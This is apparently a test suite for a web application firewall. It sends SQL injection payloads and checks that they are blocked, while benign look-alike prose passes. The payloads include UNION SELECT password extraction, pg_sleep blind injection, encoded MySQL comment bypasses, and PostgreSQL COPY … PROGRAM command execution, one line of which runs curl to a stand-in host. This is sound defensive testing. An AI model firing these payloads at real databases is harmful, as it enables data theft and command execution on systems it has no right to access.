// SQL injection read as a parser reads SQL, through a real edge at level 1: select lists with
// concatenation and aliases (PortSwigger's lab payloads), MySQL executable comments holding
// percent-encoded keywords in every placement, PostgreSQL's JSON operators and COPY … PROGRAM,
// a payload split between the query and a form body under one name (ASP.NET joins them), and
// SQL that backticks do not hide (MySQL quotes identifiers with them; a Markdown code span in
// prose is still text a query receives). The ordinary requests that look like them pass.
// Refused requests never reach the backend.
import { createServer, request, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runAdminCli, startServe, stopProcess, type RunningServer } from '../helpers/spawn-palisade.ts';
import { removeTempDirs, tempDir } from '../helpers/temp.ts';
import { multipart } from '../helpers/waf-corpus.ts';

let server: RunningServer;
let backend: Server;
let reached = 0;
let clientCounter = 0;

interface Sent {
  method?: string;
  path: string;
  headers?: Record<string, string>;
  body?: Buffer | string;
}

const HOST = 'sql.example';

function send(req: Sent): Promise<number> {
  const url = new URL(server.edgeUrl!);
  clientCounter++;
  // Each request from its own client (named by the trusted proxy): bans do not mix cases up.
  const client = `10.${(clientCounter >> 16) & 255}.${(clientCounter >> 8) & 255}.${clientCounter & 255}`;
  const body = req.body === undefined ? undefined : Buffer.from(req.body);
  return new Promise((resolve, reject) => {
    const headers: Record<string, string> = { host: HOST, 'x-forwarded-for': client, ...req.headers };
    if (body) headers['content-length'] = String(body.length);
    const r = request({ host: url.hostname, port: url.port, path: req.path, method: req.method ?? (body ? 'POST' : 'GET'), localAddress: '127.0.0.9', agent: false, headers }, (res) => {
      res.resume();
      res.on('end', () => resolve(res.statusCode!));
    });
    r.on('error', reject);
    r.end(body);
  });
}

const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
const query = (name: string, value: string): Sent => ({ path: `/q?${encodeURIComponent(name)}=${encodeURIComponent(value)}` });
const form = (fields: Record<string, string>): Sent => ({ path: '/form', headers: FORM, body: new URLSearchParams(fields).toString() });
const json = (value: unknown): Sent => ({ path: '/api', headers: { 'content-type': 'application/json' }, body: JSON.stringify(value) });
const part = (name: string, value: string): Sent => {
  const m = multipart({ [name]: value });
  return { path: '/upload', headers: { 'content-type': m.contentType }, body: m.body };
};

/** The value in a query, a form, JSON and a multipart field. */
const everywhere = (name: string, value: string): Array<[string, Sent]> => [
  [`query ${value}`, query(name, value)],
  [`form ${value}`, form({ [name]: value })],
  [`JSON ${value}`, json({ [name]: value })],
  [`multipart ${value}`, part(name, value)],
];

/** Each case refused (403) and never seen by the backend. */
async function expectRefused(cases: Array<[string, Sent]>): Promise<void> {
  const passed: string[] = [];
  for (const [name, req] of cases) {
    const before = reached;
    const status = await send(req);
    if (status !== 403) passed.push(`${name}: ${status}`);
    expect(reached, `${name} reached the backend`).toBe(before + (status === 403 ? 0 : 1));
  }
  expect(passed).toEqual([]);
}

async function expectPassed(cases: Array<[string, Sent]>): Promise<void> {
  const refused: string[] = [];
  for (const [name, req] of cases) {
    const status = await send(req);
    if (status !== 200) refused.push(`${name}: ${status}`);
  }
  expect(refused).toEqual([]);
}

beforeAll(async () => {
  backend = createServer((req, res) => {
    reached++;
    req.resume();
    req.on('end', () => res.end('ok'));
  });
  await new Promise<void>((r) => backend.listen(0, '127.0.0.1', r));
  const port = (backend.address() as { port: number }).port;
  const env = { PALISADE_DATA_DIR: tempDir(), PALISADE_ALLOW_PRIVATE_BACKENDS: 'true', PALISADE_EDGE_TRUSTED_PROXIES: '127.0.0.9', PALISADE_LOG_LEVEL: 'warn' };
  const key = JSON.parse((await runAdminCli(env, ['user', 'create', '--name', 'w', '--email', 'w@example.org'])).stdout).key.api_key as string;
  server = await startServe({ ...env, PALISADE_LOG_LEVEL: 'info', PALISADE_EDGE_CLIENT_RATE: '0' });
  const res = await fetch(`${server.url}/domains`, { method: 'POST', headers: { 'x-auth-key': key, 'content-type': 'application/json' }, body: JSON.stringify({ domain: HOST, backend: `127.0.0.1:${port}`, baseprotection: true }) });
  expect(res.status).toBe(201);
  for (let i = 0; i < 100 && (await send({ path: '/' })) !== 200; i++) await new Promise((r) => setTimeout(r, 50));
}, 150_000);

afterAll(async () => {
  if (server) await stopProcess(server);
  backend?.close();
  removeTempDirs();
});

describe('edge: SQL injection at level 1, read as a parser reads it', () => {
  it('refuses UNION SELECT whose select list concatenates or names its columns (||, ->>, AS), such a subquery, a stacked SELECT CASE WHEN', async () => {
    const payloads = [
      // PortSwigger's labs (retrieving data from other tables, Oracle and PostgreSQL concatenation).
      "' UNION SELECT username || '~' || password FROM users--",
      "' UNION SELECT username||'~'||password FROM users--",
      '1 UNION SELECT username AS u, password AS p FROM users',
      '1) union select name as n, pass as p from users-- -',
      "-1 union select doc->>'$.password' from users",
      "1' AND (SELECT data->>'pw' FROM users LIMIT 1)='a'--",
      // PortSwigger's blind time-delay lab: a CASE column in a stacked SELECT.
      "'; SELECT CASE WHEN (1=1) THEN pg_sleep(10) ELSE pg_sleep(0) END--",
      "x'; select case when (username='administrator') then pg_sleep(5) else pg_sleep(0) end from users--",
    ];
    await expectRefused(payloads.flatMap((p) => everywhere('id', p)));
  });

  it('refuses /*!%55NiOn*/ /*!%53eLEct*/ in a query, a form, a JSON string and a multipart field', async () => {
    const value = '/*!%55NiOn*/ /*!%53eLEct*/ 1,2,3';
    const raw = (sent: string) => sent.replace(/ /g, '%20');
    await expectRefused([
      // As the attacker writes it: the framework's one decoding makes %55 a U.
      ['query', { path: `/q?id=${raw(value)}` }],
      ['form', { path: '/form', headers: FORM, body: `id=${raw(value)}` }],
      ['form (after a value)', { path: '/form', headers: FORM, body: `id=-1${raw(` ${value}-- -`)}` }],
      // Inside JSON and a multipart field the app receives %55 as it is: one that decodes again
      // (PHP's urldecode on a field) runs UNION SELECT.
      ['JSON', json({ id: value })],
      ['JSON (after a value)', json({ id: `-1' ${value}-- -` })],
      ['multipart', part('id', value)],
    ]);
  });

  it("refuses PostgreSQL's JSON operators and COPY … PROGRAM (CVE-2019-9193), MySQL's ->> in a query", async () => {
    const payloads = [
      `1 and '{"a":1}'::jsonb @> '{"a":1}'`,
      `1' or '{"a":1}'::jsonb @> '{"a":1}'::jsonb-- -`,
      `' or '{"a":{"b":1}}'::jsonb #>> '{a,b}' = '1'--`,
      "1;copy (select '') to program 'id'",
      "'; copy t from program 'id'-- -",
      "1; COPY cmd_exec FROM PROGRAM 'id'",
      "COPY (SELECT '') TO PROGRAM 'curl http://x.example/'",
      "copy (select password from users) to '/var/www/html/x.txt'",
    ];
    await expectRefused(payloads.flatMap((p) => everywhere('id', p)));
  });

  it('refuses a payload split between the query and a form or multipart body under one name (ASP.NET joins them with ",")', async () => {
    const m = multipart({ id: '*/SELECT password FROM users--' });
    await expectRefused([
      ['query + form', { path: "/form?id=1'%20UNION/*", headers: FORM, body: 'id=*/SELECT%20password%20FROM%20users--' }],
      ['query + multipart', { path: "/upload?id=1'%20UNION/*", headers: { 'content-type': m.contentType }, body: m.body }],
    ]);
  });

  it('refuses SQL that backticks do not hide: MySQL identifiers, and a quote that ends the string inside a code span in prose', async () => {
    await expectRefused([
      ...everywhere('col', '1` OR `1`=`1'),
      ...everywhere('col', 'x` or 1=1 -- -'),
      ...everywhere('comment', 'hello there friend 1` OR `1`=`1'),
      ...everywhere('comment', "thanks for the post, `' or 1=1-- -` was the trick"),
      ...everywhere('comment', "nice one `' union select password from users-- -` ok"),
    ]);
  });
});

describe('edge: ordinary requests at level 1 that look like these', () => {
  it("passes the issue's prose, select lists in prose, and SQL quoted in a forum post's code spans", async () => {
    await expectPassed([
      ['prose ; update', form({ message: 'We met on Monday; update the roadmap by Friday please.' })],
      ['prose ; delete', form({ message: 'The trash works like this; delete removes them for good.' })],
      ['trade union', query('q', 'trade union select committee')],
      ['union members', query('q', 'union members select their leaders as delegates from a list')],
      ['select an option', form({ help: 'Open the panel (select an option from the menu) and save.' })],
      ['; select case', form({ message: 'It is late; select case when you can tomorrow.' })],
      ['copy in prose', query('q', 'copy the report to program folder')],
      ['copy in prose (quoted)', form({ message: "Copy it to program 'Settings' and restart" })],
      ['forum UNION', form({ post: 'You can combine them with `SELECT city FROM customers UNION SELECT city FROM suppliers;` and sort after.' })],
      ['forum concatenation', json({ body: "In Postgres use `first_name || ' ' || last_name AS full_name` in the select list, it works." })],
      ['forum jsonb', json({ body: "Why does `SELECT data->>'name' FROM t WHERE data @> '{\"a\":1}'` return nothing for me?" })],
      ['forum COPY', form({ post: "I tried `COPY t FROM '/tmp/x.csv' CSV HEADER` but it says permission denied, any idea?" })],
      ['forum identifiers', form({ post: 'The `user`.`id` column and `order` need backticks in MySQL, see the docs.' })],
      ['markdown spans', json({ body: 'Press `Ctrl` or `Cmd` and then `=` to zoom in the editor.' })],
      ['search with backticks', query('q', '`select` or `option` element styling')],
      ['names with apostrophes', form({ name: "D'Arcy O'Neil", city: "Val-d'Or" })],
      ['product with pipes', query('q', 'usb-c || thunderbolt cable 2m')],
    ]);
  });
});
